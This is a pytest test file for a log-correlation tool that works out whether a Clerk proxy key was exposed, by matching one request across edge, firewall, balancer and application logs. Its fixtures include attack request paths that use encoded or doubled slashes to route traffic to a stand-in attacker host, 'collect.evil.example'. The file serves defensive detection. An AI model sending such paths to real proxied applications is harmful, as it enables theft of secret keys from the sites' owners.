"""One request in many logs: which logs are hops of one another, and what they settle together."""

from __future__ import annotations

from typing import Any

import pytest
from incident_story import CHROME, CURL, KEY, LogFile, Story

ATTACKER, USER = "203.0.113.77", "198.51.100.20"
EDGE, BALANCER, PROXY = "130.176.10.5", "10.0.1.9", "10.0.2.7"
CALM = [f"/__clerk/v1/client?n={number}" for number in range(6)]


def events(report: dict[str, Any]) -> list[dict[str, Any]]:
    """The timeline's findings."""
    return [row for row in report["timeline"] if row["kind"] == "finding"]


def clock(second: float, start: int = 0) -> str:
    """A time some seconds after 04:12:00."""
    total = 4 * 3600 + 12 * 60 + start + second
    return f"{int(total // 3600):02}:{int(total % 3600 // 60):02}:{total % 60:06.3f}"


def chain(story: Story, *, skew: int = 0, attack: bool = True) -> tuple[LogFile, LogFile]:
    """An edge and an application that share six ordinary requests; the attack stands in both if `attack`."""
    edge = story.log("edge.gz", "cloudfront").covers("00:00:00", "09:00:00")
    app = story.log("app.log", "fastify").covers("01:00:00" if skew else "00:00:00", "10:00:00" if skew else "09:00:00")
    for number, target in enumerate(CALM):
        edge.line(clock(40 * number), USER, target)
        app.line(clock(40 * number + 0.2, skew), EDGE, target, forwarded_for=USER)
    edge.line(clock(300), ATTACKER, KEY, 403, user_agent=CURL)
    if attack:
        app.line(clock(300.2, skew), EDGE, KEY, 200, forwarded_for=ATTACKER)
    return edge, app


def test_four_hops_are_one_event_with_the_outermost_client() -> None:
    story = Story()
    seen = [
        (story.log("cf.gz", "cloudfront"), ATTACKER, None),
        (story.log("alb.gz", "alb"), EDGE, None),
        (story.log("access.log", "nginx"), BALANCER, f"{ATTACKER}, {EDGE}"),
        (story.log("app.log", "fastify"), PROXY, f"{ATTACKER}, {EDGE}, {BALANCER}"),
    ]
    for hop, (log, client, forwarded) in enumerate(seen):
        log.line(clock(0.1 * hop), client, KEY, forwarded_for=forwarded, _ids=["1-abc"] if hop in (1, 2) else None)
    report = story.told()
    assert [row["hops"] for row in events(report)] == [["cf.gz", "alb.gz", "access.log", "app.log"]]
    assert len(report["findings"]) == 4
    assert len({row["event_id"] for row in report["findings"]}) == 1
    assert report["incidents"][0]["attacker_clients"] == [ATTACKER]
    assert (report["incidents"][0]["events"], report["verdict"]) == (1, "key-exposed")
    assert [hop["name"] for hop in report["hops"]] == ["cf.gz", "alb.gz", "access.log", "app.log"]
    own = next(fact["text"] for fact in report["statement"]["facts"] if fact["label"] == "own hops")
    assert EDGE in own and BALANCER in own


def test_the_order_of_the_inputs_does_not_matter() -> None:
    told = []
    for order in ((0, 1, 2), (2, 1, 0), (1, 2, 0)):
        story = Story()
        logs = [
            ("cf.gz", "cloudfront", ATTACKER, None),
            ("alb.gz", "alb", EDGE, ATTACKER),
            ("a.log", "fastify", BALANCER, f"{ATTACKER}, {EDGE}"),
        ]
        for place in order:
            name, log_format, client, forwarded = logs[place]
            story.log(name, log_format).line(clock(place / 10), client, KEY, forwarded_for=forwarded)
        told.append([(row["hops"], row["client_ip"], row["event_id"]) for row in events(story.told())])
    assert told[0] == told[1] == told[2]


@pytest.mark.parametrize("skew", [0, 3600, -3600, 7200])
def test_a_wrong_zone_is_estimated_and_said(skew: int) -> None:
    story = Story()
    chain(story, skew=skew)
    report = story.told()
    assert [row["hops"] for row in events(report)] == [["edge.gz", "app.log"]]
    assert events(report)[0]["timestamp"] == "2026-03-30T04:17:00.000000Z"
    app = next(hop for hop in report["hops"] if hop["name"] == "app.log")
    assert abs(app["skew_seconds"] - skew) < 1
    assert any(fact["label"] == "clocks" for fact in report["statement"]["facts"]) is (skew != 0)


def test_the_innermost_log_decides_over_what_an_outer_one_claims() -> None:
    story = Story()
    edge, _ = chain(story)
    edge.rows[-1] |= {"_hint": "not-forwarded", "_hint_reason": "x-edge-result-type"}
    report = story.told()
    assert events(report)[0]["outcome"] == "presumed-sent"


def test_the_innermost_answer_decides() -> None:
    story = Story()
    edge, _ = chain(story)
    edge.rows[-1]["status"] = 504
    assert story.told()["verdict"] == "key-exposed"


def test_absence_from_the_log_behind_rules_it_out() -> None:
    story = Story()
    chain(story, attack=False)
    report = story.told()
    assert (events(report)[0]["outcome"], report["verdict"]) == ("not-forwarded", "attempted")
    assert "app.log" in events(report)[0]["text"]


def test_absence_counts_with_a_wrong_zone_too() -> None:
    story = Story()
    chain(story, attack=False, skew=3600)
    assert events(story.told())[0]["outcome"] == "not-forwarded"


def test_absence_counts_not_where_the_log_behind_does_not_cover_the_time() -> None:
    story = Story()
    _, app = chain(story, attack=False)
    app.extra_times.clear()  # its last line is then the last ordinary request, before the attack
    assert events(story.told())[0]["outcome"] == "presumed-sent"


def test_absence_counts_not_in_a_gap_of_the_log_behind() -> None:
    story = Story()
    edge, app = chain(story, attack=False)
    late = "/__clerk/v1/client?n=late"
    edge.line("06:50:00", USER, late)
    app.line("06:50:00.2", EDGE, late, forwarded_for=USER)
    edge.rows[-2]["timestamp"] = edge.rows[-1]["timestamp"].replace(hour=6, minute=0)  # the attack, within the hole
    app.extra_times = [time for time in app.extra_times if not 4.5 <= time.hour + time.minute / 60 < 6.8]
    report = story.told()
    assert next(row for row in report["inputs"] if row["source"] == "app.log")["gaps"]
    assert events(report)[0]["outcome"] == "presumed-sent"


def test_absence_counts_not_without_shared_requests_within_the_hour() -> None:
    story = Story()
    edge, _ = chain(story, attack=False)
    edge.rows[-1]["timestamp"] = edge.rows[-1]["timestamp"].replace(hour=7)
    assert events(story.told())[0]["outcome"] == "presumed-sent"


def test_absence_counts_not_where_the_process_crashed() -> None:
    story = Story()
    edge, _ = chain(story, attack=False)
    edge.line(clock(298), ATTACKER, "/__clerk//", 502)
    edge.line(clock(310), USER, "/pricing", 502)
    edge.line(clock(320), USER, "/pricing", 200)
    report = story.told()
    assert {row["target_host"]: row["outcome"] for row in events(report)}["collect.evil.example"] == "presumed-sent"
    outage = next(row for row in report["timeline"] if row["kind"] == "outage")
    assert "22 s" in outage["text"] and "1 other request" in outage["text"]
    assert next(span for span in report["spans"] if span["kind"] == "outage")["to"] == "2026-03-30T04:17:20.000000Z"


def test_absence_counts_not_while_a_replica_may_have_had_it() -> None:
    story = Story()
    edge, _ = chain(story, attack=False)
    other = story.log("app-2.log", "fastify")
    for number in range(3):
        target = f"/__clerk/v1/environment?n={number}"
        edge.line(clock(100 + number), USER, target)
        other.line(clock(100 + number + 0.2), EDGE, target, forwarded_for=USER)
    assert events(story.told())[0]["outcome"] == "presumed-sent"
    other.covers("00:00:00", "09:00:00")
    assert events(story.told())[0]["outcome"] == "not-forwarded"


def test_absence_does_not_contradict_a_log_that_shows_that_it_went_on() -> None:
    story = Story()
    edge, _ = chain(story, attack=False)
    edge.rows[-1]["_hint"] = "forwarded"
    assert events(story.told())[0]["outcome"] == "presumed-sent"


def test_replicas_behind_one_balancer_are_no_hops_of_each_other() -> None:
    story = Story()
    balancer, logs = story.log("alb.gz", "alb"), [story.log("web-1.log"), story.log("web-2.log")]
    for number in range(8):
        balancer.line(clock(10 * number), USER, CALM[0])
        logs[number % 2].line(clock(10 * number + 0.1), BALANCER, CALM[0], forwarded_for=USER)
    for number in range(2):
        balancer.line(clock(100 + 2 * number), ATTACKER, KEY)
        logs[number].line(clock(100.1 + 2 * number), BALANCER, KEY, forwarded_for=ATTACKER)
    report = story.told()
    assert [row["hops"] for row in events(report)] == [["alb.gz", "web-1.log"], ["alb.gz", "web-2.log"]]
    assert report["incidents"][0]["events"] == 2


def test_replicas_alone_stay_apart_though_one_client_asked_both_at_once() -> None:
    story = Story()
    for number in range(2):
        log = story.log(f"web-{number}.log")
        for place in range(4):
            log.line(clock(60 * place + 30 * number), USER, CALM[place])
        log.line(clock(300 + 2 * number), ATTACKER, KEY)
    assert len(events(story.told())) == 2


def test_nginx_in_front_of_nginx_is_a_hop() -> None:
    story = Story()
    front, back = story.log("front.log"), story.log("back.log")
    for place, target in enumerate([*CALM, KEY]):
        client = ATTACKER if target == KEY else USER
        front.line(clock(50 * place), client, target)
        back.line(clock(50 * place + 0.1), PROXY, target, forwarded_for=client)
    report = story.told()
    assert [(row["hops"], row["client_ip"]) for row in events(report)] == [(["front.log", "back.log"], ATTACKER)]


def test_a_decoding_hop_becomes_certain_with_the_log_behind_it() -> None:
    story = Story()
    nginx, app = story.log("access.log"), story.log("app.log", "fastify")
    nginx.line(clock(0), ATTACKER, "/__clerk/%2fcollect.evil.example/x")
    app.line(clock(0.1), PROXY, "/__clerk//collect.evil.example/x", forwarded_for=ATTACKER)
    report = story.told()
    assert report["verdict"] == "key-exposed"
    assert {(row["rule_id"], row["outcome"]) for row in report["findings"]} == {
        ("off-host-after-decoding", "presumed-sent"),
        ("off-host-target", "presumed-sent"),
    }
    assert report["incidents"][0]["events"] == 1


def test_a_decoding_hop_is_void_where_the_application_has_it_undecoded() -> None:
    story = Story()
    nginx, app = story.log("access.log"), story.log("app.log", "fastify")
    nginx.line(clock(0), ATTACKER, "/__clerk/%2fcollect.evil.example/x")
    app.line(clock(0.1), PROXY, "/__clerk/%2fcollect.evil.example/x", forwarded_for=ATTACKER)
    report = story.told()
    assert {(row["outcome"], row["severity"]) for row in report["findings"]} == {("none", "low")}
    assert (report["verdict"], len(events(report))) == ("probed", 1)


def test_a_log_behind_that_has_it_with_merged_slashes_shows_that_nothing_left() -> None:
    story = Story()
    nginx, app = story.log("access.log"), story.log("app.log", "fastify")
    nginx.line(clock(0), ATTACKER, KEY, request_id="r1")
    app.line(clock(0.1), PROXY, "/__clerk/collect.evil.example/x", 404, request_id="r1")
    report = story.told()
    assert (events(report)[0]["outcome"], report["verdict"]) == ("none", "attempted")


def test_a_log_with_a_normalised_field_settles_nothing() -> None:
    story = Story()
    alb, nginx = story.log("alb.gz", "alb"), story.log("access.log", "nginx_uri")
    alb.line(clock(0), ATTACKER, KEY)
    nginx.line(clock(0.1), BALANCER, "/__clerk/collect.evil.example/x", forwarded_for=ATTACKER)
    report = story.told()
    assert (events(report)[0]["outcome"], events(report)[0]["hops"]) == ("presumed-sent", ["alb.gz", "access.log"])


def test_waf_and_balancer_share_the_trace_id() -> None:
    story = Story()
    waf, alb = story.log("waf.json", "aws_waf"), story.log("alb.gz", "alb")
    waf.line(clock(0), ATTACKER, KEY, None, _ids=["1-67891233-abc"], _hint="not-forwarded", _hint_reason="action BLOCK")
    alb.line(
        clock(20),
        "203.0.113.1",
        KEY,
        403,
        _ids=["Root=1-67891233-abc"],
        _hint="not-forwarded",
        _hint_reason="no forward",
    )
    report = story.told()
    assert [row["hops"] for row in events(report)] == [["waf.json", "alb.gz"]]
    assert events(report)[0]["outcome"] == "not-forwarded"


def test_a_firewall_within_an_edge_decides() -> None:
    story = Story()
    waf, edge = story.log("waf.json", "aws_waf"), story.log("cf.gz", "cloudfront")
    waf.line(clock(0), ATTACKER, KEY, None, _ids=["cf-1"], _hint="not-forwarded", _hint_reason="action BLOCK")
    edge.line(clock(0.1), ATTACKER, KEY, 403, _ids=["cf-1"])
    report = story.told()
    assert (events(report)[0]["outcome"], events(report)[0]["hops"]) == ("not-forwarded", ["cf.gz", "waf.json"])


def test_the_same_object_read_twice_counts_once() -> None:
    story = Story()
    for name in ("a/access.log", "b/access.log"):
        log = story.log(name)
        log.line(clock(0), USER, CALM[0])
        log.line(clock(1), ATTACKER, KEY, raw="the same line")
        log.rows[0]["raw"] = "another"
    report = story.told()
    assert (len(events(report)), report["incidents"][0]["events"]) == (1, 1)
    assert len(report["findings"]) == 2


def test_a_drains_repeats_of_one_id_are_one_event() -> None:
    story = Story()
    log = story.log("drain.jsonl", "vercel")
    for number in range(3):
        log.line(clock(0.1 * number), ATTACKER, KEY, request_id="iad1::abc")
    log.line(clock(9), ATTACKER, KEY, request_id="iad1::def")
    assert len(events(story.told())) == 2


def test_an_id_that_the_attacker_repeats_joins_no_two_lines_of_one_log() -> None:
    story = Story()
    log = story.log("access.log")
    for number in range(3):
        log.line(clock(number), ATTACKER, KEY, request_id="mine")
    assert len(events(story.told())) == 3


def test_requests_six_seconds_apart_are_two() -> None:
    story = Story()
    edge, app = story.log("edge.gz", "cloudfront"), story.log("app.log", "fastify")
    for number, target in enumerate(CALM):
        edge.line(clock(20 * number), USER, target)
        app.line(clock(20 * number), EDGE, target, forwarded_for=USER)
    edge.line(clock(300), ATTACKER, KEY)
    app.line(clock(306), EDGE, KEY, forwarded_for=ATTACKER)
    assert len(events(story.told())) == 2


def test_nearest_first_pairs_bursts_of_equal_requests() -> None:
    story = Story()
    edge, app = story.log("edge.gz", "cloudfront"), story.log("app.log", "fastify")
    for number in range(120):
        edge.line(clock(number // 40), ATTACKER, KEY)
        app.line(clock(number // 40 + 0.01 * (number % 40)), EDGE, KEY, forwarded_for=ATTACKER)
    report = story.told()
    assert report["incidents"][0]["events"] == 120


def test_context_is_told_once_though_both_hops_have_it() -> None:
    story = Story()
    edge, app = chain(story)
    edge.line(clock(290), ATTACKER, "/login", user_agent=CHROME)
    app.line(clock(290.2), EDGE, "/login", forwarded_for=ATTACKER)
    rows = [row for row in story.told()["timeline"] if row["kind"] == "context"]
    assert [(row["request_target"], row["source"]) for row in rows] == [("/login", "edge.gz")]


def test_logs_that_only_a_third_one_connects_are_hops_too() -> None:
    story = Story()
    edge = story.log("cf.gz", "cloudfront").covers("00:00:00", "09:00:00")
    balancer = story.log("alb.gz", "alb").covers("00:00:00", "09:00:00")
    nginx = story.log("access.log")  # its last line is before the attack
    for number, target in enumerate(CALM):
        edge.line(clock(10 * number), USER, target)
        balancer.line(clock(10 * number + 0.1), EDGE, target)
        nginx.line(clock(10 * number + 0.2), BALANCER, target, forwarded_for=f"{USER}, {EDGE}")
    edge.line(clock(300), ATTACKER, KEY, 403)
    report = story.told()
    assert (events(report)[0]["outcome"], events(report)[0]["client_ip"]) == ("not-forwarded", ATTACKER)
    assert "alb.gz" in events(report)[0]["text"]


def test_a_firewall_that_let_it_pass_leaves_the_word_to_its_balancer() -> None:
    story = Story()
    waf, alb = story.log("waf.json", "aws_waf"), story.log("alb.gz", "alb")
    waf.line(clock(0), ATTACKER, KEY, None, _ids=["1-abc"])
    alb.line(clock(0.1), ATTACKER, KEY, 403, _ids=["Root=1-abc"], _hint="not-forwarded", _hint_reason="fixed-response")
    assert events(story.told())[0]["outcome"] == "not-forwarded"


def test_a_guessed_log_is_placed_by_what_it_saw() -> None:
    story = Story()
    nginx, guessed = story.log("access.log"), story.log("app.json", "somebodys")
    for number, target in enumerate(CALM):
        nginx.line(clock(10 * number), USER, target)
        guessed.line(clock(10 * number + 0.1), PROXY, target, forwarded_for=USER)
    nginx.line(clock(100), ATTACKER, KEY)
    guessed.line(clock(100.1), PROXY, KEY, 502, forwarded_for=ATTACKER)
    report = story.told()
    assert events(report)[0]["hops"] == ["access.log", "app.json"]
    assert events(report)[0]["outcome"] == "undetermined"


def test_a_private_peer_of_an_inner_log_is_no_attacker_where_an_outer_log_is_there() -> None:
    story = Story()
    nginx, app = story.log("access.log"), story.log("app.log", "fastify")
    nginx.line(clock(0), ATTACKER, KEY)
    app.line(clock(0.1), "127.0.0.1", KEY)
    assert [row["attacker_clients"] for row in story.told()["incidents"]] == [[ATTACKER]]


def test_among_two_clocks_the_one_that_states_its_zone_is_believed() -> None:
    story = Story()
    balancer, app = story.log("haproxy.log", "haproxy"), story.log("app.log", "fastify")
    for place, target in enumerate([*CALM, KEY]):
        client = ATTACKER if target == KEY else USER
        balancer.line(clock(40 * place, 3600), client, target)
        app.line(clock(40 * place), PROXY, target, forwarded_for=client)
    report = story.told()
    assert (events(report)[0]["hops"], events(report)[0]["timestamp"][11:16]) == (["haproxy.log", "app.log"], "04:16")


def test_context_of_an_object_read_twice_is_told_once() -> None:
    story = Story()
    for name in ("a/access.log", "b/access.log"):
        log = story.log(name)
        log.line(clock(0), ATTACKER, "/", raw="a")
        log.line(clock(1), ATTACKER, KEY, raw="b")
    assert [row["kind"] for row in story.told()["timeline"]] == ["context", "finding"]


def test_of_very_many_ordinary_requests_the_nearest_are_enough(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("clerk_logscan.incident.investigation.ENOUGH", 4)
    story = Story()
    chain(story, attack=False)
    assert events(story.told())[0]["outcome"] == "not-forwarded"


@pytest.mark.parametrize(("host", "count"), [("app.example.com", 1), ("other.example.com", 0)])
def test_a_host_that_was_asked_for_may_be_named_by_any_log_of_the_request(host: str, count: int) -> None:
    story = Story()
    edge, app = chain(story)
    edge.rows[-1]["host"], app.rows[-1]["host"] = "app.example.com:443", "app:3000"
    report = story.told(hosts=(host,))
    assert len(events(report)) == count
    assert all(row["outcome"] == "presumed-sent" for row in events(report))


def test_an_answer_from_a_cache_is_presumed_sent_though_the_log_behind_lacks_it() -> None:
    story = Story()
    edge, _ = chain(story, attack=False)
    edge.rows[-1] |= {"_hint": "served-before", "_hint_reason": "x-edge-result-type is Hit"}
    report = story.told()
    assert events(report)[0]["outcome"] == "presumed-sent"
    assert "its time is unknown" in events(report)[0]["text"]
